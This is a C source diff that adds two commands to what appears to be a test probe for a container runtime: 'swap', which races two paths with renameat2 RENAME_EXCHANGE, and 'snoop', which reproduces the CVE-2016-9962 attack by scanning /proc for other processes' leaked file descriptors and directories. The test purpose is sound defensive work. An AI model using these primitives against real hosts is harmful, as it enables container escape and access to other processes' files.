@@ -561,6 +561,70 @@ static int command_overwrite(int argc, char **argv) {
 	return 0;
 }
 
+/* On the host: exchanges two paths as fast as it can until it is ended. */
+static int command_swap(int argc, char **argv) {
+	if (argc < 2)
+		return 2;
+	printf("swapping\n");
+	fflush(stdout);
+	for (;;)
+		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) != 0 && errno != ENOENT)
+			return 3;
+}
+
+/*
+ * The attack of CVE-2016-9962: looks at every process that appears beside its own for the seconds given, and prints
+ * each descriptor, root and working directory that it could read there.
+ */
+static int command_snoop(int argc, char **argv) {
+	time_t end = time(NULL) + (argc > 0 ? atoi(argv[0]) : 2);
+	char seen[64][256];
+	int count = 0;
+	printf("armed\n");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		DIR *proc = opendir("/proc");
+		for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
+			char path[300], exe[256] = "";
+			if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
+				continue;
+			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+			ssize_t length = readlink(path, exe, sizeof exe - 1);
+			exe[length < 0 ? 0 : length] = 0;
+			if (strncmp(exe, "/bin/", 5) == 0 || strncmp(exe, "/probe", 6) == 0)
+				continue;
+			snprintf(path, sizeof path, "/proc/%s/fd", entry->d_name);
+			DIR *fds = opendir(path);
+			for (struct dirent *fd; fds != NULL && (fd = readdir(fds)) != NULL;) {
+				struct stat facts;
+				char target[200] = "";
+				if (fd->d_name[0] == '.' || fstatat(dirfd(fds), fd->d_name, &facts, 0) != 0)
+					continue;
+				length = readlinkat(dirfd(fds), fd->d_name, target, sizeof target - 1);
+				target[length < 0 ? 0 : length] = 0;
+				char line[256];
+				snprintf(line, sizeof line, "%o %s", (unsigned)(facts.st_mode & S_IFMT), target);
+				bool known = count == 64;
+				for (int i = 0; i < count && !known; i++)
+					known = strcmp(seen[i], line) == 0;
+				if (!known)
+					strcpy(seen[count++], line);
+			}
+			if (fds != NULL)
+				closedir(fds);
+		}
+		if (proc != NULL)
+			closedir(proc);
+	}
+	printf("{\"seen\":[");
+	for (int i = 0; i < count; i++) {
+		printf("%s", i > 0 ? "," : "");
+		json_text(seen[i]);
+	}
+	printf("]}\n");
+	return 0;
+}
+
 /* Sends READY=1 (or the text given) to $NOTIFY_SOCKET, then waits. */
 static int command_ready(int argc, char **argv) {
 	struct sockaddr_un address = {.sun_family = AF_UNIX};
@@ -631,7 +695,7 @@ int main(int argc, char **argv) {
 	} commands[] = {
 	    {"facts", command_facts}, {"calls", command_calls},   {"paths", command_paths}, {"stat", command_stat},
 	    {"wait", command_wait},   {"tty", command_tty},       {"hog", command_hog},     {"forks", command_forks},
-	    {"burn", command_burn},   {"overwrite", command_overwrite}, {"ready", command_ready}, {"exit", command_exit},
+	    {"burn", command_burn},   {"overwrite", command_overwrite}, {"swap", command_swap}, {"snoop", command_snoop}, {"ready", command_ready}, {"exit", command_exit},
 	    {"die", command_die},     {"echo", command_echo},     {"readfd", command_readfd}, {"spawn", command_spawn},
 	};
 	for (size_t i = 0; argc > 1 && i < sizeof commands / sizeof *commands; i++)
